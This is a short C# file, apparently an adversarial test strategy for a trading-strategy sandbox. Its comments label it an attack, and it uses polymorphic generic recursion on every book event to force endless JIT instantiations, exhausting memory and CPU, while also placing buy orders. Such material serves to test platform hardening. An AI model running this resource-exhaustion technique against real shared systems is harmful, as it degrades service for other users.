// Abuses: polymorphic recursion: each call needs a new instantiation of a generic virtual method, which the JIT must make.
// Harm: a preparer that closes over instantiations never ends; on the hot thread each event compiles and leaks types.
// Kind: memory/CPU.
using System;
using System.Collections.Generic;
using System.Linq;
using System.Threading;
using Strategies.Sdk;

namespace Attacks.InfiniteGenericsAttack;

public sealed class InfiniteGenericsStrategy : Strategy
{
    private readonly struct Pair<T, U>;

    private abstract class Visitor
    {
        public abstract long Visit<T>(int depth);
    }

    private sealed class Deeper : Visitor
    {
        public override long Visit<T>(int depth) => depth == 0 ? 1 : Visit<Pair<T, List<T>>>(depth - 1) + Visit<Pair<List<T>, T>>(depth - 1);
    }

    private readonly Visitor _visitor = new Deeper();

    public override void OnBook(in BookEvent bookEvent) => Act(_visitor.Visit<int>(12));

    public override void OnStart() => Context.Subscribe(new InstrumentId(1));

    private long _n;

    private void Act(long leak)
    {
        _n = _n * 31 + leak;
        Price bid = Context.Book(new InstrumentId(1)).BestBid.Price;
        if ((_n & 1) == 0 && bid.Raw > 0)
        {
            Context.Send(NewOrder.Limit(new InstrumentId(1), Side.Buy, bid, 100, tag: _n & 0xFF));
        }
    }

    public override void Save(ref StateWriter writer) => writer.Write(_n);

    public override void Restore(ref StateReader reader) => _n = reader.ReadInt64();
}
